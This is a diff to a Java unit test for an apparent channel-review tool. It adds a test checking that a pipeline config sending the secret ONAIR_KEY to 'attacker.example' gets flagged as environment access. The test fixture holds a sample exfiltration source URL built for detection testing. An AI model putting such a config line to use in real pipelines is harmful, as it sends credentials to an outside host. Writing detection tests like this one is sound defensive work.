@@ -9,6 +9,7 @@ import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
+import java.util.Map;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -129,6 +130,20 @@ class AccessOfNewChannelsTest {
   }
 
   @Test
+  void whereTheEnvironmentGoesIsAccessByTheNameOfTheVariable() {
+    List<AccessChange> access =
+        accessOf(
+            """
+            class = SINGLE_PIPELINE
+            inputs.main { type = URL_PULL, sources = ["https://attacker.example/"${ONAIR_KEY}] }
+            """);
+
+    assertThat(access).extracting(AccessChange::kind).containsExactly(AccessKind.ENVIRONMENT);
+    assertThat(access.get(0).details())
+        .containsExactly("ONAIR_KEY: inputs.main.sources, for attacker.example");
+  }
+
+  @Test
   void anOrdinaryOneIsNot() {
     assertThat(
             accessOf(
@@ -145,7 +160,9 @@ class AccessOfNewChannelsTest {
 
   private List<AccessChange> accessOf(String channel, String file, String text) {
     SynthesizedProject project =
-        SynthesizedProject.of(ProjectFolder.in(root).channel("news", channel).file(file, text));
+        SynthesizedProject.of(
+            ProjectFolder.in(root).channel("news", channel).file(file, text),
+            Map.of("ONAIR_KEY", "IQoJb3JpZ2luX2VjEXAMPLE"));
     return Reviewer.review("news", Plan.ofNew(project.stack("news")), EncoderState.IDLE).access();
   }
 }
